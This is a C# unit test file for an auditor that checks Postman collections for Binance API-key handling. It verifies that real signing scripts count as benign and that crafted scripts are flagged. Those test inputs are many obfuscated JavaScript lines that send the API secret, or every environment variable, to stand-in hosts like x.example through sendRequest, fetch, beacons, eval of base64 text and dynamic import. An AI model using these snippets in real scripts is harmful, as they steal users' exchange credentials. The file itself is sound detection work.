using System;
using System.Collections.Generic;
using System.Linq;
using System.Text;
using System.Text.Json;
using BinancePostman.Catalog;
using Xunit;
using Xunit.Abstractions;

namespace BinancePostman.Tests.Catalog
{
    /// <summary>
    /// The audit follows the secret through a script: signing scripts of any library or spelling are Info, and each
    /// way of sending a key elsewhere is found, however it is spelled (crafted attacks: split names, bracket access,
    /// eval of decoded text, beacons, globals, header injection...).
    /// </summary>
    public class ScriptFlowTests
    {
        private readonly ITestOutputHelper _output;

        public ScriptFlowTests(ITestOutputHelper output) => _output = output;

        private static string Collection(string[] collectionScript, string[]? requestScript = null, string url = "{{url}}/api/v3/account") =>
            "{ \"info\": { \"name\": \"Crafted\", \"schema\": \"https://schema.getpostman.com/json/collection/v2.1.0/collection.json\" },\n"
            + "  \"item\": [ { \"name\": \"Account\", " + Event(requestScript) + "\"request\": { \"method\": \"GET\", \"url\": " + JsonSerializer.Serialize(url) + " } } ],\n"
            + "  " + Event(collectionScript).TrimEnd(',', ' ') + " }";

        private static string Event(string[]? lines) => lines == null ? "" :
            "\"event\": [ { \"listen\": \"prerequest\", \"script\": { \"type\": \"text/javascript\", \"exec\": " + JsonSerializer.Serialize(lines) + " } } ], ";

        private List<AuditFinding> Audit(params string[] script)
        {
            var findings = CollectionAuditor.Audit(Encoding.UTF8.GetBytes(Collection(script)), "/tmp/crafted.json").ToList();
            foreach (AuditFinding f in findings) _output.WriteLine(f.ToString());
            return findings;
        }

        private static List<AuditFinding> Problems(IEnumerable<AuditFinding> findings) => findings.Where(f => f.Severity != AuditSeverity.Info).ToList();

        private static void AssertSigningOnly(List<AuditFinding> findings)
        {
            Assert.Empty(Problems(findings));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Info && f.Finding.StartsWith("The collection carries a request-signing script"));
        }

        // ---- signing scripts of other spellings: Info ----

        [Fact]
        public void ACryptoJsVariantSigningTheQueryIsInfo() => AssertSigningOnly(Audit(
            "// sign the query with the secret, append the signature",
            "var apiSecret = pm.environment.get('binance-api-secret');",
            "var apiKey = pm.environment.get('binance-api-key');",
            "var ts = new Date().getTime();",
            "pm.request.url.addQueryParams('timestamp=' + ts);",
            "var query = pm.request.url.getQueryString();",
            "var hash = CryptoJS.HmacSHA256(query, apiSecret);",
            "var sig = CryptoJS.enc.Hex.stringify(hash);",
            "pm.request.url.addQueryParams('signature=' + sig);",
            "pm.request.headers.upsert({ key: 'X-MBX-APIKEY', value: apiKey });"));

        [Fact]
        public void ASubtleCryptoHmacScriptIsInfo() => AssertSigningOnly(Audit(
            "const secret = pm.collectionVariables.get('api_secret');",
            "const enc = new TextEncoder();",
            "const payload = pm.request.url.query.map(p => `${p.key}=${p.value}`).join('&') + '&timestamp=' + Date.now();",
            "const key = await crypto.subtle.importKey('raw', enc.encode(secret), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);",
            "const mac = await crypto.subtle.sign('HMAC', key, enc.encode(payload));",
            "const hex = [...new Uint8Array(mac)].map(b => b.toString(16).padStart(2, '0')).join('');",
            "pm.request.url.query.upsert({ key: 'signature', value: hex });",
            "pm.request.headers.each(h => { if (h.key === 'X-MBX-APIKEY') h.value = pm.collectionVariables.get('api_key'); });"));

        [Fact]
        public void ASubtleCryptoEd25519ScriptIsInfo() => AssertSigningOnly(Audit(
            "const pem = pm.environment.get('binance-private-key');",
            "const body = pem.replace('-----BEGIN PRIVATE KEY-----', '').replace('-----END PRIVATE KEY-----', '').replace(/\\s/g, '');",
            "const der = Uint8Array.from(atob(body), c => c.charCodeAt(0));",
            "const privateKey = await crypto.subtle.importKey('pkcs8', der, { name: 'Ed25519' }, false, ['sign']);",
            "const payload = 'timestamp=' + Date.now();",
            "const raw = await crypto.subtle.sign({ name: 'Ed25519' }, privateKey, new TextEncoder().encode(payload));",
            "const signature = btoa(String.fromCharCode(...new Uint8Array(raw)));",
            "pm.request.url.query.add({ key: 'timestamp', value: payload.split('=')[1] });",
            "pm.request.url.query.add({ key: 'signature', value: encodeURIComponent(signature) });",
            "pm.request.headers.add({ key: 'X-MBX-APIKEY', value: pm.environment.get('binance-api-key') });"));

        [Fact]
        public void JsrsasignForgeAndNodeCryptoSpellingsAreInfo()
        {
            AssertSigningOnly(Audit(
                "const key = forge.pki.privateKeyFromPem(pm.environment.get('binance-private-key'));",
                "const md = forge.md.sha256.create();",
                "md.update(pm.request.url.getQueryString(), 'utf8');",
                "pm.request.url.query.add({ key: 'signature', value: encodeURIComponent(forge.util.encode64(key.sign(md))) });"));
            AssertSigningOnly(Audit(
                "const sig = new KJUR.crypto.Signature({ alg: 'SHA256withRSA' });",
                "sig.init(pm.environment.get('rsa-private-key'));",
                "sig.updateString(pm.request.url.getQueryString());",
                "pm.environment.set('signature', hextob64(sig.sign()));"));
            AssertSigningOnly(Audit(
                "const crypto = require('crypto');",
                "const secret = pm.environment.get('secret');",
                "const signer = crypto.createHmac('sha256', secret);",
                "signer.update(pm.request.url.getQueryString());",
                "pm.request.url.query.add({ key: 'signature', value: signer.digest('hex') });"));
        }

        [Fact]
        public void AHelperFunctionThatSetsTheKeyHeaderIsFollowedIntoWithItsArguments() => AssertSigningOnly(Audit(
            "const k = pm.environment.get('api-key');",
            "setHeader('X-MBX-APIKEY', k);",
            "const s = CryptoJS.HmacSHA256('timestamp=1', pm.environment.get('api-secret')).toString();",
            "pm.environment.set('signature', s);",
            "function setHeader(name, value) {",
            "  const existing = pm.request.headers.find(h => h.key === name);",
            "  if (existing) existing.value = value; else pm.request.headers.add({ key: name, value });",
            "}"));

        // ---- attacks: each keeps its severity however it is spelled ----

        public static IEnumerable<object[]> Attacks() => new[]
        {
            Case("split names", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "const n = 'binance-api-' + 'sec' + 'ret';", "const s = pm.environment.get(n);", "pm.sendRequest('https://x.example/c?' + s);"),
            Case("a name reversed and joined", AuditSeverity.Error, "sends the secret 'binance-api-secret'",
                "const n = 'terces-ipa-ecnanib'.split('').reverse().join('');", "fetch('https://x.example/', { method: 'POST', body: pm.environment.get(n) });"),
            Case("bracket access", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "const s = pm['environment']['get']('binance-api-secret');", "pm['send' + 'Request']('https://x.example/?q=' + s);"),
            Case("eval of decoded text", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "eval(atob('" + Convert.ToBase64String(Encoding.UTF8.GetBytes("pm.sendRequest('https://x.example/?k=' + pm.environment.get('binance-api-secret'))")) + "'));"),
            Case("text run by a timer", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "setTimeout(\"pm.sendRequest('https://x.example/?k=' + pm.environment.get('binance-api-secret'))\", 1);"),
            Case("an image beacon", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "new Image().src = 'https://x.example/p.gif?k=' + pm.environment.get('binance-api-secret');"),
            Case("a copy into globals inside an object", AuditSeverity.Error, "copies the secret 'binance-api-secret' into the globals variable 'cache'",
                "pm.globals.set('cache', JSON.stringify({ k: pm.environment.get('binance-api-secret') }));"),
            Case("header injection", AuditSeverity.Error, "puts the secret 'binance-api-secret' into the header 'X-Forwarded-For'",
                "pm.request.headers.add({ key: 'X-Forwarded-For', value: pm.environment.get('binance-api-secret') });"),
            Case("header injection as text", AuditSeverity.Error, "puts the API key 'binance-api-key' into the header '?'",
                "pm.request.headers.add('X-Debug: ' + pm.environment.get('binance-api-key'));"),
            Case("the secret as the signature", AuditSeverity.Error, "puts the secret 'binance-api-secret' into a URL",
                "pm.request.url.query.add({ key: 'signature', value: pm.environment.get('binance-api-secret') });"),
            Case("the secret in the body", AuditSeverity.Error, "puts the secret 'api-secret' into the request body",
                "pm.request.body.update({ mode: 'raw', raw: JSON.stringify({ s: pm.environment.get('api-secret') }) });"),
            Case("an alias called through call()", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "const send = pm.sendRequest;", "const secret = pm.environment.get('binance-api-secret');", "send.call(pm, { url: 'https://x.example', body: { mode: 'raw', raw: secret } });"),
            Case("destructuring", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "const { environment: e } = pm;", "const { get } = e;", "const s = e.get('binance-api-secret');", "fetch('https://x.example', { method: 'POST', body: s });"),
            Case("a function's constructor", AuditSeverity.Error, "runs code built from text (constructor)",
                "[].constructor.constructor('return pm')().sendRequest('https://x.example');"),
            Case("an escaped name", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "pm.\\u0073endRequest('https://x.example/?' + pm.environment.get('binance-\\x61pi-secret'));"),
            Case("a template literal", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "pm.sendRequest(`https://x.example/${pm.environment.get('binance-api-secret')}`);"),
            Case("a function named like signing", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "function hmacSign(m, k) { pm.sendRequest('https://x.example/?' + k); return m; }",
                "pm.environment.set('signature', hmacSign('q', pm.environment.get('binance-api-secret')));"),
            Case("characters reversed", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "const parts = pm.environment.get('binance-api-secret').split('');", "parts.reverse();", "pm.sendRequest('https://x.example/' + parts.join(''));"),
            Case("every variable at once", AuditSeverity.Error, "sends the secret '(every environment variable)' in a request of its own",
                "pm.sendRequest({ url: 'https://x.example', method: 'POST', body: { mode: 'raw', raw: JSON.stringify(pm.environment.toObject()) } });"),
            Case("a signature sent away", AuditSeverity.Error, "sends a signature made with the secret 'binance-api-secret' in a request of its own",
                "const sig = CryptoJS.HmacSHA256('symbol=BTCUSDT&side=SELL', pm.environment.get('binance-api-secret')).toString();", "pm.sendRequest('https://x.example/?sig=' + sig);"),
            Case("XMLHttpRequest", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "const x = new XMLHttpRequest();", "x.open('GET', 'https://x.example/?k=' + pm.environment.get('binance-api-secret'));", "x.send();"),
            Case("a name decoded with atob", AuditSeverity.Error, "puts the secret 'binance-api-secret' into a URL",
                "pm.request.url.addQueryParams('k=' + pm.environment.get(atob('YmluYW5jZS1hcGktc2VjcmV0')));"),
            Case("Reflect.apply", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "Reflect.apply(pm.sendRequest, pm, ['https://x.example/?' + pm.environment.get('binance-api-secret')]);"),
            Case("a header found by another name", AuditSeverity.Error, "puts the API key 'api-key' into the header 'X-Other'",
                "pm.request.headers.each(h => { if (h.key === 'X-Other') h.value = pm.environment.get('api-key'); });"),
            Case("the request pointed elsewhere", AuditSeverity.Error, "points the request at evil.example",
                "pm.request.url.host = ['evil', 'example'];"),
            Case("a getter that leaks", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "const s = pm.environment.get('binance-api-secret');", "const o = { get x() { pm.sendRequest('https://x.example/?' + s); return 1; } };"),
            Case("a library the audit does not know", AuditSeverity.Warning, "hands the secret 'binance-api-secret' to uploader.put()",
                "uploader.put(pm.environment.get('binance-api-secret'));"),
            Case("a package the audit cannot see, named like signing", AuditSeverity.Warning, "hands the secret 'binance-api-secret' to module:@team/tools.hmacSend()",
                "const t = pm.require('@team/tools');", "pm.environment.set('signature', t.hmacSend(pm.environment.get('binance-api-secret')));"),
            Case("the console, inside an object", AuditSeverity.Warning, "writes the secret 'binance-api-secret' to the Postman console",
                "console.info({ s: pm.environment.get('binance-api-secret') });"),
            Case("a variable whose name is built from data", AuditSeverity.Error, "sends the secret '(a name built at run time)' in a request of its own",
                "const name = pm.response ? pm.response.text() : 'x';", "pm.sendRequest('https://x.example/?' + pm.environment.get(name));"),
            Case("legacy environment object", AuditSeverity.Error, "puts the secret 'binance-api-secret' into a URL",
                "pm.request.url.addQueryParams('s=' + environment['binance-api-secret']);"),
            Case("a getter defined on an object", AuditSeverity.Error, "puts the secret 'binance-api-secret' into a URL",
                "const s = pm.environment.get('binance-api-secret');", "const o = {};", "Object.defineProperty(o, 'x', { get() { return s; } });", "pm.request.url.addQueryParams('x=' + o.x);"),
            Case("thrown and caught", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "try { throw pm.environment.get('binance-api-secret'); } catch (e) { pm.sendRequest('https://x.example/' + e); }"),
            Case("yielded by a generator", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "function* g() { yield pm.environment.get('binance-api-secret'); }", "for (const x of g()) pm.sendRequest('https://x.example/' + x);"),
            Case("a map's entry", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "const m = new Map();", "m.set('k', pm.environment.get('binance-api-secret'));", "pm.sendRequest('https://x.example/' + m.get('k'));"),
            Case("the secret as an HMAC's message, not its key", AuditSeverity.Error, "puts the secret 'binance-api-secret' into a URL",
                "const sig = CryptoJS.HmacSHA256(pm.environment.get('binance-api-secret'), 'k').toString();", "pm.request.url.query.add({ key: 'signature', value: sig });"),
            Case("a bare global named like signing", AuditSeverity.Warning, "hands the secret 'binance-api-secret' to sign()",
                "pm.environment.set('signature', sign(pm.environment.get('binance-api-secret')));"),
            Case("more wrappers than the tracker follows", AuditSeverity.Warning, "too deeply nested or recursive to follow",
                "function f0(x) { pm.sendRequest('https://x.example/' + x); }", "function f1(x) { f0(x) } function f2(x) { f1(x) } function f3(x) { f2(x) } function f4(x) { f3(x) }",
                "function f5(x) { f4(x) } function f6(x) { f5(x) } function f7(x) { f6(x) } function f8(x) { f7(x) } function f9(x) { f8(x) } function f10(x) { f9(x) }",
                "function f11(x) { f10(x) } function f12(x) { f11(x) } function f13(x) { f12(x) }", "f13(pm.environment.get('binance-api-secret'));"),
            Case("the request's headers sent away", AuditSeverity.Error, "sends the API key '(the request's headers)' in a request of its own",
                "pm.sendRequest({ url: 'https://x.example', method: 'POST', body: { mode: 'raw', raw: JSON.stringify(pm.request.getHeaders()) } });"),
            Case("Function.prototype.call.call", AuditSeverity.Error, "sends the secret 'binance-api-secret' in a request of its own",
                "Function.prototype.call.call(pm.sendRequest, pm, 'https://x.example/' + pm.environment.get('binance-api-secret'));"),
            Case("a dynamic import", AuditSeverity.Error, "runs code built from text (import)",
                "import('https://x.example/lib.js').then(m => m.go(pm.environment.get('binance-api-secret')));"),
            Case("a line the tracker cannot read still counts", AuditSeverity.Error, "reads the API key or secret and sends requests of its own",
                "const s = pm.environment.get('binance-api-secret');", "with (pm) { sendRequest('https://x.example/' + s) }"),
        };

        private static object[] Case(string name, AuditSeverity severity, string finding, params string[] script) => new object[] { name, severity, finding, script };

        [Theory]
        [MemberData(nameof(Attacks))]
        public void AttacksAreFoundWithTheirSeverity(string name, AuditSeverity severity, string finding, string[] script)
        {
            var findings = Audit(script);
            Assert.True(findings.Any(f => f.Severity == severity && f.Finding.Contains(finding)),
                $"{name}: expected {severity} '{finding}'; got:\n{string.Join("\n", findings)}");
        }

        [Fact]
        public void ScriptsOfOneCollectionAreJudgedTogether()
        {
            // the collection's script defines the sender; the request's script reads the secret and calls it by a signing-like name
            string json = Collection(
                new[] { "globalThis.lib = { sign: (x) => pm.sendRequest('https://x.example/?' + x) };" },
                new[] { "const s = pm.environment.get('binance-api-secret');", "pm.environment.set('signature', lib.sign(s));" });
            var findings = CollectionAuditor.Audit(Encoding.UTF8.GetBytes(json), "/tmp/crafted.json");
            foreach (AuditFinding f in findings) _output.WriteLine(f.ToString());
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Finding.Contains("sends requests of its own, and the 'Account' pre-request script reads the API key or secret"));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Warning && f.Finding.Contains("hands the secret 'binance-api-secret' to lib.sign()"));
        }

        [Fact]
        public void AScriptPointingTheRequestAtACollectionVariablesHostIsAnError()
        {
            string json = Collection(new[] { "pm.request.url.host = pm.collectionVariables.get('mirror');" })
                .Replace("\"item\":", "\"variable\": [ { \"key\": \"mirror\", \"value\": \"collector.example\" } ], \"item\":");
            var findings = CollectionAuditor.Audit(Encoding.UTF8.GetBytes(json), "/tmp/crafted.json");
            foreach (AuditFinding f in findings) _output.WriteLine(f.ToString());
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Finding == "The script points the request at collector.example, which is not a Binance host.");
        }

        [Fact]
        public void ScriptLinesTheAuditCannotReadAreAWarning()
        {
            var findings = Audit("const s = pm.environment.get('secret');", "with (pm) { sendRequest('https://x.example/?' + s) }");
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Warning && f.Finding.Contains("cannot read this line") && f.Location.EndsWith("script line 2"));
        }

        // ---- no text makes the audit fail ----

        [Theory]
        [InlineData("(", 10000)]
        [InlineData("[", 10000)]
        [InlineData("{", 10000)]
        [InlineData("a+", 10000)]
        [InlineData("a.b", 10000)]
        [InlineData("f(", 10000)]
        [InlineData("if(1)", 10000)]
        [InlineData("`${", 2000)]
        [InlineData("x=>", 10000)]
        [InlineData("!", 10000)]
        public void DeeplyNestedTextEndsInAFindingNotACrash(string unit, int times)
        {
            string script = "const s = pm.environment.get('binance-api-secret'); pm.sendRequest('https://x.example/' + s);\n" + string.Concat(Enumerable.Repeat(unit, times));
            var findings = CollectionAuditor.Audit(Encoding.UTF8.GetBytes(Collection(new[] { script })), "/tmp/deep.json");
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Finding.Contains("reads the API key or secret and sends requests of its own"));
        }

        [Fact]
        public void MangledSigningScriptsNeverThrow()
        {
            var scripts = new List<string>();
            foreach (string file in System.IO.Directory.EnumerateFiles(System.IO.Path.Combine(Fixtures.Postman2026, "collections"), "*.json").Take(2)
                .Concat(System.IO.Directory.EnumerateFiles(System.IO.Path.Combine(Fixtures.RepoRoot, "collections"), "*.json").Take(1)))
            {
                using var doc = JsonDocument.Parse(System.IO.File.ReadAllBytes(file));
                if (doc.RootElement.TryGetProperty("event", out JsonElement events))
                    foreach (JsonElement e in events.EnumerateArray())
                        scripts.Add(string.Join("\n", e.GetProperty("script").GetProperty("exec").EnumerateArray().Select(l => l.GetString())));
            }
            Assert.NotEmpty(scripts);
            var random = new Random(20);
            int variants = 0;
            foreach (string script in scripts)
                for (int i = 0; i < 60; i++, variants++)
                {
                    // cut it short, or drop a run of characters: unbalanced brackets, strings and templates
                    string mangled = i % 2 == 0 ? script.Substring(0, random.Next(script.Length)) : script.Remove(random.Next(script.Length - 20), random.Next(1, 20));
                    var findings = CollectionAuditor.Audit(Encoding.UTF8.GetBytes(Collection(mangled.Split('\n'))), "/tmp/mangled.json");
                    Assert.NotEmpty(findings);
                }
            Assert.True(variants >= 150);
        }

        // ---- hosts written in request URLs and collection variables ----

        private static string Requests(string variables, params string[] items) =>
            "{ \"info\": { \"name\": \"C\", \"schema\": \"https://schema.getpostman.com/json/collection/v2.1.0/collection.json\" }, \"variable\": [" + variables + "], \"item\": [" + string.Join(",", items) + "] }";

        private static string Request(string name, string url, bool key, bool signature) =>
            "{ \"name\": \"" + name + "\", \"request\": { \"method\": \"GET\", "
            + (key ? "\"header\": [ { \"key\": \"X-MBX-APIKEY\", \"value\": \"{{binance-api-key}}\" } ], " : "")
            + "\"url\": { \"raw\": \"" + url + "\", \"host\": [\"" + url.Substring(0, url.IndexOf("/api", StringComparison.Ordinal)) + "\"], \"path\": [\"api\", \"v3\", \"account\"]"
            + (signature ? ", \"query\": [ { \"key\": \"timestamp\", \"value\": \"{{timestamp}}\" }, { \"key\": \"signature\", \"value\": \"{{signature}}\" } ]" : "")
            + " } } }";

        [Fact]
        public void ALiteralForeignHostForASignedRequestIsAnError()
        {
            var findings = CollectionAuditor.Audit(Encoding.UTF8.GetBytes(Requests("",
                Request("Account", "https://evil.example/api/v3/account", key: true, signature: true))), "/tmp/c.json");
            var finding = Assert.Single(findings);
            Assert.Equal(AuditSeverity.Error, finding.Severity);
            Assert.Equal("1 request(s) go to evil.example, which is not a Binance host; it carries the API key or a signature.", finding.Finding);
            Assert.Equal("'Account' URL", finding.Location);
        }

        [Fact]
        public void HostsInCollectionVariablesAreErrorsWhenKeyedRequestsUseThem()
        {
            var findings = CollectionAuditor.Audit(Encoding.UTF8.GetBytes(Requests(
                "{ \"key\": \"base\", \"value\": \"https://gateway.example\" }, { \"key\": \"docs\", \"value\": \"https://docs.example\" }",
                Request("Public", "{{base}}/api/v3/ping", key: false, signature: false),
                Request("Signed", "{{base}}/api/v3/account", key: false, signature: true))), "/tmp/c.json");
            foreach (AuditFinding f in findings) _output.WriteLine(f.ToString());
            var host = Assert.Single(findings, f => f.Finding.StartsWith("2 request(s) go to gateway.example"));
            Assert.Equal(AuditSeverity.Error, host.Severity);
            Assert.Equal("'Signed' URL", host.Location); // the keyed one is named
            Assert.Contains("1 of them carry", host.Finding);
            Assert.Equal(AuditSeverity.Error, Assert.Single(findings, f => f.Location == "variable 'base'").Severity);
            Assert.Equal(AuditSeverity.Warning, Assert.Single(findings, f => f.Location == "variable 'docs'").Severity);
        }

        [Fact]
        public void AScriptThatSetsTheKeyHeaderMakesEveryRequestKeyed()
        {
            string json = Requests("", Request("Ping", "https://evil.example/api/v3/ping", key: false, signature: false))
                .Replace("\"item\":", "\"event\": [ { \"listen\": \"prerequest\", \"script\": { \"exec\": [ \"pm.request.headers.add({ key: 'X-MBX-APIKEY', value: pm.environment.get('api-key') });\" ] } } ], \"item\":");
            var findings = CollectionAuditor.Audit(Encoding.UTF8.GetBytes(json), "/tmp/c.json");
            Assert.Equal(AuditSeverity.Error, Assert.Single(findings, f => f.Finding.StartsWith("1 request(s) go to evil.example")).Severity);
        }
    }
}
